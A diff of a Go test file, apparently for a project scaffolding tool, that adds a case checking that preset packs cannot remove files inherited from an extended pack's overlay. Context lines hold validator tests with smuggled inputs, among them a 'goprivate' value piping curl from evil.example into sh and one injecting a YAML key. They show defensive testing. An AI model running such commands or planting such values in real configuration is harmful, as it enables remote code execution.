@@ -184,6 +184,8 @@ func TestPackRefusals(t *testing.T) {
 			want: `p/preset.yaml:2:14: executable: "scripts/deploy.sh": want an overlay template's name`},
 		{name: "executable escaping the overlay", files: map[string]string{"p/preset.yaml": "name: p\nexecutable: [../x.tmpl]\n"}, want: `p/preset.yaml:2:14: executable: "../x.tmpl"`},
 		{name: "remove naming no built-in file", files: map[string]string{"p/preset.yaml": "name: p\nremove: [cmd/orders/main.go]\n"}, want: "p/preset.yaml:2:10: remove cmd/orders/main.go: no built-in file has that path"},
+		{name: "remove naming a file of an extended pack's overlay", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./base\nremove: [CODEOWNERS]\n", "p/base/preset.yaml": "name: base\n", "p/base/overlay/CODEOWNERS.tmpl": "* @acme/platform\n"},
+			want: "p/preset.yaml:3:10: remove CODEOWNERS: no built-in file has that path; the file comes from the overlay of a pack this one extends (p/base/overlay/CODEOWNERS.tmpl), which remove does not take: to leave it out, give this pack's overlay a CODEOWNERS.tmpl whose output is only white space"},
 		{name: "goprivate injection", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: \"x/*\\\"\\n  EVIL: \\\"injected\"\n"}, want: "p/preset.yaml:2:12: goprivate"},
 		{name: "goprivate shell", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: 'x.example/*; curl http://evil.example/p | sh'\n"}, want: "goprivate: pattern"},
 		{name: "leaving a locked module prefix", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nmodule_prefix: github.com/someone-else\n", "p/org/preset.yaml": orgPack},
